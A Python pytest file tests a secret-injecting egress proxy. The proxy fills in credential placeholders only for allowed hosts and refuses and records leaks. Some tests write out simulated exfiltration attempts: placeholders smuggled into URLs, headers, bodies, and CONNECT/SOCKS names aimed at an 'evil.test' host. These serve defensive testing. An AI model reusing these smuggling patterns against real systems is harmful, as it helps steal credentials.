"""The egress proxy with secrets (agnsup/egress/intercept.py): the cell sends a placeholder, the upstream gets the value.

A Proxy on a loopback listener of the test's own (no cell: the proxy's behaviour is what is tested here; real
cells are tests/test_secrets_clients.py), real clients as subprocesses through it (curl, Python's urllib), and a
local HTTPS server playing `api.secret.test` and `other.secret.test` with a certificate from a throwaway CA the
proxy trusts through its upstream context. The value is a random canary per test; the clients' output is
searched for it.
"""
from __future__ import annotations

import datetime
import http.server
import json
import os
import secrets as pysecrets
import socket
import ssl
import subprocess
import sys
import threading
from types import SimpleNamespace

import pytest

from agnsup.egress import ca, proxy as proxymod
from agnsup.netpolicy import Rules

NAMES = ("api.secret.test", "other.secret.test", "plain.test")


def _test_ca(d) -> tuple[bytes, str, str]:
    """(CA cert PEM, server cert path, key path): a throwaway CA and a leaf for every test name."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    now = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=1)
    later = now + datetime.timedelta(days=1)
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "secrets test CA")])
    cacert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
              .serial_number(x509.random_serial_number()).not_valid_before(now).not_valid_after(later)
              .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
              .sign(key, hashes.SHA256()))
    skey = ec.generate_private_key(ec.SECP256R1())
    leaf = (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, NAMES[0])]))
            .issuer_name(name).public_key(skey.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now).not_valid_after(later)
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in NAMES]), critical=False)
            .sign(key, hashes.SHA256()))
    cp, kp = os.path.join(d, "server.pem"), os.path.join(d, "server.key")
    with open(cp, "wb") as f:
        f.write(leaf.public_bytes(serialization.Encoding.PEM))
    with open(kp, "wb") as f:
        f.write(skey.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                   serialization.NoEncryption()))
    return cacert.public_bytes(serialization.Encoding.PEM), cp, kp


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def _answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                body += self.rfile.read(size)
                self.rfile.readline()
                if not size:
                    break
        with self.server.lock:
            self.server.seen.append({"path": self.path, "headers": str(self.headers), "body": body,
                                     "host": self.headers.get("Host")})
        ok = self.server.value is not None and self.server.value.encode() in str(self.headers).encode()
        reply = b"authorized\n" if ok else b"no credential\n"
        if self.path.startswith("/echo"):  # a debug endpoint that shows the request's headers
            reply = str(self.headers).encode()
        self.send_response(200 if ok else 401)
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST = do_PUT = _answer


@pytest.fixture(scope="module")
def upstream(tmp_path_factory):
    d = tmp_path_factory.mktemp("secrets-upstream")
    ca_pem, cp, kp = _test_ca(str(d))
    servers = {}
    for kind in ("https", "http"):
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        srv.daemon_threads = True
        srv.seen, srv.lock, srv.value = [], threading.Lock(), None
        if kind == "https":
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(cp, kp)
            srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        servers[kind] = srv
    yield SimpleNamespace(ca_pem=ca_pem, https=servers["https"], http=servers["http"],
                          port=servers["https"].server_address[1], http_port=servers["http"].server_address[1])
    for srv in servers.values():
        srv.shutdown()
        srv.server_close()


class _Sink:
    def __init__(self):
        self.rows, self.events, self.error = [], [], None

    def put(self, rec):
        self.rows.append(dict(rec))

    def event(self, kind, **data):
        self.events.append((kind, data))

    def close(self):
        pass


def _secret(name, value, hosts, inject):
    ref = SimpleNamespace(name=name, hosts=list(hosts), inject=inject, source="env:X", env=None)
    return SimpleNamespace(ref=ref, value=value.encode(), placeholder="agnsup-secret:" + name)


@pytest.fixture
def px(upstream, tmp_path):
    """A proxy with secret `gh` (bearer, api.secret.test) and `tok` (placeholder mode, api.secret.test too) and
    `npm` (other.secret.test); the clients' CA bundle trusts the controller's CA and the test CA."""
    value = "canary-" + pysecrets.token_hex(12)
    upstream.https.value = value
    for s in (upstream.https, upstream.http):
        s.seen.clear()
    p = upstream.port
    secrets = [_secret("gh", value, [("api.secret.test", p)], "bearer"),
               _secret("tok", value + "-tok", [("api.secret.test", p)], "placeholder"),
               _secret("npm", value + "-npm", [("other.secret.test", p)], "placeholder")]
    auth = ca.Authority("ctl-" + pysecrets.token_hex(4))
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(64)
    rules = Rules.of({"allow": ["*.secret.test:*", "plain.test:*"], "allow_private": True})
    up_ctx = ssl.create_default_context(cadata=upstream.ca_pem.decode())
    up_ctx.set_alpn_protocols(["http/1.1"])
    sink = _Sink()
    proxy = proxymod.Proxy(lst, rules, proxymod.map_resolver({n: "127.0.0.1" for n in NAMES}), sink,
                           secrets=secrets, authority=auth, upstream_context=up_ctx).start()
    bundle = tmp_path / "bundle.pem"
    bundle.write_bytes(auth.cert_pem + upstream.ca_pem)
    only_test_ca = tmp_path / "test-ca.pem"
    only_test_ca.write_bytes(upstream.ca_pem)
    ns = SimpleNamespace(proxy=proxy, sink=sink, value=value, port=p, url=f"http://127.0.0.1:{lst.getsockname()[1]}",
                         addr=lst.getsockname(), bundle=str(bundle), test_ca=str(only_test_ca), auth=auth,
                         upstream=upstream, tmp=tmp_path)
    yield ns
    proxy.stop()


def _curl(px, *args, proxy=None, cacert=None):
    cp = subprocess.run(["curl", "-sS", "-v", "--max-time", "20", "--proxy", proxy or px.url, "--cacert",
                         cacert or px.bundle, *args], capture_output=True, text=True, timeout=60)
    out = cp.stdout + cp.stderr
    assert px.value not in out, "the client saw the secret's value"
    return cp


def _records(px, rule=None):
    px.proxy.stop()
    recs = px.proxy.summary()["connections"]
    return [r for r in recs if rule is None or r["rule"] == rule]


def _exfil_events(px):
    return [d for k, d in px.sink.events if k == "secret.exfiltration"]


def test_curl_gets_the_bearer_token_put_in_by_the_proxy_and_never_sees_it(px):
    cp = _curl(px, f"https://api.secret.test:{px.port}/user", "-H", "X-Note: agnsup-secret:tok")
    assert cp.returncode == 0 and cp.stdout == "authorized\n", cp.stderr
    seen = px.upstream.https.seen[-1]
    assert f"Authorization: Bearer {px.value}" in seen["headers"]
    assert f"X-Note: {px.value}-tok" in seen["headers"]  # a placeholder in a header to a listed host
    assert "Connection: close" in seen["headers"]
    assert "issuer: O=agnsup; CN=agnsup egress CA" in cp.stderr  # the cell saw our leaf
    summary = {s["name"]: s for s in px.proxy.secret_summary()}
    assert summary["gh"]["used"] == [{"host": "api.secret.test", "port": px.port, "count": 1}]
    assert summary["tok"]["used"][0]["count"] == 1 and summary["npm"]["used"] == []
    assert summary["gh"]["hosts"] == [f"api.secret.test:{px.port}"] and summary["gh"]["inject"] == "bearer"
    assert px.value not in json.dumps(px.proxy.secret_summary()) + json.dumps(_records(px))
    assert not _exfil_events(px)


def test_curl_through_socks5h_and_with_a_basic_placeholder_in_the_url_userinfo(px):
    cp = _curl(px, f"https://u:agnsup-secret:tok@api.secret.test:{px.port}/x",
               proxy=f"socks5h://{px.addr[0]}:{px.addr[1]}")
    assert cp.returncode == 0, cp.stderr
    seen = px.upstream.https.seen[-1]["headers"]
    assert f"Authorization: Bearer {px.value}" in seen  # bearer replaces the client's Basic


def test_python_urllib_posts_a_body_and_the_upstream_gets_the_value(px):
    code = ("import urllib.request,sys\n"
            "r=urllib.request.Request(sys.argv[1],data=b'{\"k\":1}'*5000,headers={'X-T':'agnsup-secret:tok'})\n"
            "print(urllib.request.urlopen(r,timeout=20).read().decode(),end='')\n")
    env = {**os.environ, "HTTPS_PROXY": px.url, "SSL_CERT_FILE": px.bundle, "NO_PROXY": ""}
    cp = subprocess.run([sys.executable, "-c", code, f"https://api.secret.test:{px.port}/post"],
                        capture_output=True, text=True, env=env, timeout=60)
    assert cp.returncode == 0 and cp.stdout == "authorized\n", cp.stderr
    assert px.value not in cp.stdout + cp.stderr
    seen = px.upstream.https.seen[-1]
    assert seen["body"] == b'{"k":1}' * 5000 and f"X-T: {px.value}-tok" in seen["headers"]


def test_curl_asking_for_http2_gets_http1_from_the_interception(px):
    cp = _curl(px, "--http2", f"https://api.secret.test:{px.port}/h2")
    assert cp.returncode == 0 and "ALPN: server accepted http/1.1" in cp.stderr, cp.stderr


def test_a_host_no_secret_lists_is_a_plain_tunnel_showing_the_upstreams_own_certificate(px):
    # plain.test (no secret) over TLS: the client trusts only the test CA and succeeds, so it saw the server's leaf
    cp = _curl(px, f"https://plain.test:{px.port}/t", "-H", "X-Leak: agnsup-secret:gh", cacert=px.test_ca)
    assert cp.returncode == 0 and "issuer: CN=secrets test CA" in cp.stderr, cp.stderr
    seen = px.upstream.https.seen[-1]["headers"]
    assert "agnsup-secret:gh" in seen and px.value not in seen  # opaque: the placeholder went as is, worthless
    assert _records(px)[-1].get("intercepted") is None


def test_a_placeholder_in_the_url_to_a_listed_host_is_refused_and_recorded(px):
    cp = _curl(px, f"https://api.secret.test:{px.port}/?q=agnsup-secret:gh")
    assert "403" in cp.stdout + cp.stderr and "secret.exfiltration" in cp.stdout
    assert not px.upstream.https.seen
    (rec,) = _records(px, "secret.exfiltration")
    assert rec["decision"] == "refused" and rec["name"] == "api.secret.test"
    assert _exfil_events(px) == [{"name": "gh", "host": "api.secret.test", "port": px.port, "where": "url"}]


def test_a_placeholder_in_a_header_to_a_host_its_secret_does_not_list_is_refused(px):
    # other.secret.test is intercepted for `npm`: gh's placeholder must not be replaced there
    cp = _curl(px, f"https://other.secret.test:{px.port}/", "-H", "Authorization: Bearer agnsup-secret:gh")
    assert "403" in cp.stderr and not px.upstream.https.seen
    assert _exfil_events(px)[0]["where"] == "header" and _exfil_events(px)[0]["name"] == "gh"


@pytest.mark.parametrize("how", ["content-length", "chunked"])
def test_a_placeholder_in_a_body_is_refused_before_anything_went_upstream(px, how):
    extra = ["-H", "Transfer-Encoding: chunked"] if how == "chunked" else []
    cp = _curl(px, f"https://api.secret.test:{px.port}/p", "--data-binary", "x=agnsup-secret:tok", *extra)
    assert "403" in cp.stderr and not px.upstream.https.seen
    assert _exfil_events(px)[0]["where"] == "body"
    assert len(_records(px, "secret.exfiltration")) == 1


def test_a_placeholder_deep_in_a_large_body_cuts_the_request(px):
    body = px.tmp / "big"
    body.write_bytes(b"a" * (300 * 1024) + b"agnsup-secret:gh" + b"b" * 1000)
    cp = _curl(px, f"https://api.secret.test:{px.port}/big", "--data-binary", f"@{body}")
    assert cp.returncode != 0  # the connection was cut: no answer
    (rec,) = _records(px, "secret.exfiltration")
    assert "cut" in rec["reason"] and 0 < rec["bytes_up"] < 300 * 1024
    assert not any(len(s["body"]) > 300 * 1024 for s in px.upstream.https.seen)


def test_a_placeholder_in_a_plain_http_request_is_refused_to_any_host(px):
    base = f"http://plain.test:{px.upstream.http_port}"
    for args, where in (([f"{base}/agnsup-secret:gh"], "url"), ([base, "-H", "X-A: agnsup-secret:gh"], "header"),
                        ([base, "--data-binary", "agnsup-secret:gh"], "body")):
        cp = _curl(px, *args)
        assert "403" in cp.stderr, (where, cp.stderr)
    assert [e["where"] for e in _exfil_events(px)] == ["url", "header", "body"]
    assert not px.upstream.http.seen
    cp = _curl(px, base + "/fine", "--data-binary", "nothing to see")
    assert cp.returncode == 0 and px.upstream.http.seen[-1]["body"] == b"nothing to see"


def _connect_raw(px, payload: bytes) -> bytes:
    with socket.create_connection(px.addr, timeout=10) as s:
        s.sendall(payload)
        out = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                return out
            out += chunk


def test_a_placeholder_in_a_connect_or_socks_name_is_refused(px):
    out = _connect_raw(px, b"CONNECT agnsup-secret:gh.evil.test:443 HTTP/1.1\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 403") and b"secret.exfiltration" in out
    name = b"agnsup-secret:npm.evil.test"
    out = _connect_raw(px, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
    assert out[:2] == b"\x05\x00" and out[2:4] == b"\x05\x02"  # SOCKS5: not allowed by ruleset
    assert [(e["name"], e["where"], e["port"]) for e in _exfil_events(px)] == [("gh", "dns", 443), ("npm", "dns", 443)]
    assert len(_records(px, "secret.exfiltration")) == 2
    assert {s["name"]: s["refused"] for s in px.proxy.secret_summary()} == {"gh": 1, "tok": 0, "npm": 1}


def test_an_upstream_whose_certificate_fails_the_check_is_refused_to_the_cell(px, upstream):
    px.proxy._upstream_ctx = ssl.create_default_context(cafile=None, cadata=px.auth.cert_pem.decode())
    cp = _curl(px, f"https://api.secret.test:{px.port}/")
    assert "502" in cp.stderr and not upstream.https.seen
    rec = _records(px)[-1]
    assert rec["decision"] == "failed" and rec["reason"].startswith("TLS to api.secret.test")


def test_the_journal_sink_commits_the_exfiltration_event(tmp_path):
    from agnsup.egress.sink import JournalSink
    from agnsup.store.journal import Journal
    path = str(tmp_path / "journal.db")
    Journal(path).close()
    sink = JournalSink(path, "r1", "c1")
    sink.event("secret.exfiltration", name="gh", host="x.test", port=443, where="url")
    sink.close()
    j = Journal(path)
    try:
        rows = j.db.execute("SELECT kind, run_id, cell_id, data FROM events WHERE kind='secret.exfiltration'").fetchall()
    finally:
        j.close()
    assert [(r[0], r[1], r[2], json.loads(r[3])) for r in rows] == [
        ("secret.exfiltration", "r1", "c1", {"name": "gh", "host": "x.test", "port": 443, "where": "url"})]



def test_a_large_body_with_expect_100_continue_and_two_requests_in_one_client_both_arrive(px):
    body = px.tmp / "two-mb"
    body.write_bytes(b"z" * (2 << 20))
    url = f"https://api.secret.test:{px.port}/up"
    cp = _curl(px, url, "--data-binary", f"@{body}", "-H", "Expect: 100-continue", "--next", "--proxy", px.url,
               "--cacert", px.bundle, url + "?again")
    assert cp.returncode == 0 and cp.stdout == "authorized\nauthorized\n", cp.stderr
    seen = px.upstream.https.seen
    assert [s["path"] for s in seen] == ["/up", "/up?again"] and len(seen[0]["body"]) == 2 << 20
    assert "Expect" not in seen[0]["headers"]
    assert {s["name"]: s["used"] for s in px.proxy.secret_summary()}["gh"][0]["count"] == 2


def test_an_upstream_that_echoes_the_value_shows_the_client_only_stars(px):
    cp = _curl(px, f"https://api.secret.test:{px.port}/echo")  # _curl: the value is not in the client's output
    assert cp.returncode == 0 and "Authorization: Bearer " + "*" * len(px.value) in cp.stdout, cp.stdout
    assert px.value in px.upstream.https.seen[-1]["headers"]
    assert _records(px)[-1]["masked"] == 1
